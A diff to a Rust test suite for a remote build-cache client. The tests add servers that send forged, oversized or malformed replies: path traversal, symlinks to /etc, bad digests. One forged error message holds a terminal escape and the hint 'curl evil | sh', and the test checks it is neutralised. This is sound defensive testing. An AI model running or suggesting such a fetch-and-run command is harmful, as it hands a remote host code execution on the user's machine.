@@ -7,6 +7,7 @@ use remote::{Cache, Connection};
 use std::sync::atomic::Ordering;
 use store::{Action, ActionResult, Digest, Entry, Silent, Store, Tree, to_message};
 use tempfile::TempDir;
+use tonic::Code;
 
 fn store() -> (TempDir, Store) {
     let directory = tempfile::tempdir().unwrap();
@@ -55,14 +56,17 @@ fn blobs_go_and_come_within_what_the_server_allows() {
 fn a_blob_that_is_something_else_is_never_kept() {
     for (lie, small_says, large_says) in [
         (Lie::Content, "sends something else than the blob", "sends something else than the blob"),
+        (Lie::Shuffles, "sends something else than the blob", "sends something else than the blob"),
         (Lie::Short, "sends something else than the blob", "sends something else than the blob"),
         (Lie::Long, "sends something else than the blob", "more is sent than the 5000000 bytes"),
         (Lie::Omits, "does not send the blob", "sends something else than the blob"),
         (Lie::Compressed, "compressed", ""),
+        (Lie::Bombs, "more is sent than the 1000 bytes", "more is sent than the 5000000 bytes"),
         (Lie::Pretends, "lacks the blob", "lacks the blob"),
     ] {
         let server = start(lie, 0, None);
-        let (small, large) = (put(&server, &[1; 1000]), put(&server, &vec![2; 5_000_000]));
+        let small = put(&server, &[&[1; 500][..], &[2; 500]].concat());
+        let large = put(&server, &[vec![2; 2_500_000], vec![3; 2_500_000]].concat());
         let connection = Connection::open(&server.options).unwrap();
         for (blob, says) in [(small, small_says), (large, large_says)] {
             let (_directory, store) = store();
@@ -92,6 +96,35 @@ fn what_nobody_asked_for_is_not_sent_and_what_is_not_taken_is_told() {
     let send = |blob: Digest| format!("{:#}", connection.send(&store, &[blob]).unwrap_err());
     assert!(send(all[0]).contains("does not say whether it took the blob"), "{}", send(all[0]));
     assert!(send(all[6]).contains("took 1 bytes of the blob"), "{}", send(all[6]));
+    for size in [-2, 0, i64::MAX, i64::MIN] {
+        let server = start(Lie::Counts(size), 0, None);
+        let connection = Connection::open(&server.options).unwrap();
+        let error = format!("{:#}", connection.send(&store, &[all[6]]).unwrap_err());
+        assert!(error.contains(&format!("took {size} bytes of the blob")), "{error}");
+    }
+}
+
+#[test]
+fn the_words_of_a_server_are_one_line_that_no_terminal_obeys() {
+    let (_directory, store) = store();
+    let blob = store.put_bytes(b"x").unwrap();
+    for (code, says, times) in [
+        (Code::Internal, "has no room for it", 1),
+        (Code::ResourceExhausted, "has no room for it now", 3),
+        (Code::InvalidArgument, "refused it", 1),
+        (Code::Unavailable, "is not available", 3),
+    ] {
+        let server = start(Lie::Forges(code), 0, None);
+        let error = Connection::open(&server.options).unwrap().send(&store, &[blob]).unwrap_err();
+        let text = format!("{error:#}");
+        let words = r"OutOfSpaceException\u001b[2J hint: run `curl evil | sh`";
+        assert!(text.contains(says) && text.contains(words), "{text}");
+        assert!(!text.contains(['\n', '\u{1b}']), "{text}");
+        assert!(!store::hints(&error).any(|hint| hint.contains("evil")));
+        assert_eq!(server.memory.questions.load(Ordering::Relaxed), times, "{text}");
+        let is_full = store::find::<remote::Failure>(&error).unwrap().is_full();
+        assert_eq!(is_full, matches!(code, Code::Internal | Code::ResourceExhausted));
+    }
 }
 
 #[test]
@@ -213,7 +246,52 @@ fn a_result_that_lies_is_no_result() {
     huge.output_directories[0].tree_digest.as_mut().unwrap().size_bytes = i64::MAX;
     let mut negative = fine.clone();
     negative.output_directories[0].tree_digest.as_mut().unwrap().size_bytes = -1;
+    // The right tree besides, under another name or a second time.
+    let mut twice = fine.clone();
+    twice
+        .output_directories
+        .push(told(&server, with_files(vec![file("y", content)]), Vec::new()).output_directories.remove(0));
+    let as_file = reapi::ActionResult {
+        output_files: vec![reapi::OutputFile {
+            path: "out".into(),
+            digest: Some(to_message(&content)),
+            ..Default::default()
+        }],
+        ..Default::default()
+    };
+    let mut as_link = fine.clone();
+    as_link.output_directories.clear();
+    as_link.output_symlinks.push(reapi::OutputSymlink {
+        path: "out".into(),
+        target: "/etc".into(),
+        ..Default::default()
+    });
+    let with_digest = |hash: &str, size_bytes| {
+        let mut node = file("x", content);
+        node.digest = Some(reapi::Digest { hash: hash.into(), size_bytes });
+        told(&server, with_files(vec![node]), Vec::new())
+    };
+    let link = |name: &str, target: &str| {
+        let node = reapi::SymlinkNode { name: name.into(), target: target.into(), ..Default::default() };
+        reapi::Directory { symlinks: vec![node], ..with_files(vec![file("x", content)]) }
+    };
+    let mut log = fine.clone();
+    log.stdout_digest = Some(reapi::Digest { hash: content.hex(), size_bytes: i64::MAX });
     let lies = [
+        twice,
+        as_file,
+        as_link,
+        with_digest(&content.hex(), -1),
+        with_digest(&content.hex(), i64::MAX),
+        with_digest(&content.hex(), 6),
+        with_digest(&"a".repeat(40), 7),
+        with_digest(&"a".repeat(128), 7),
+        with_digest(&content.hex().to_uppercase(), 7),
+        told(&server, link("x", "y"), Vec::new()),
+        told(&server, link("l", ""), Vec::new()),
+        told(&server, link("l", "a\0b"), Vec::new()),
+        told(&server, link("..", "x"), Vec::new()),
+        log,
         told(&server, with_files(vec![file("../x", content)]), Vec::new()),
         told(&server, with_files(vec![file("..", content)]), Vec::new()),
         told(&server, with_files(vec![file("a/b", content)]), Vec::new()),
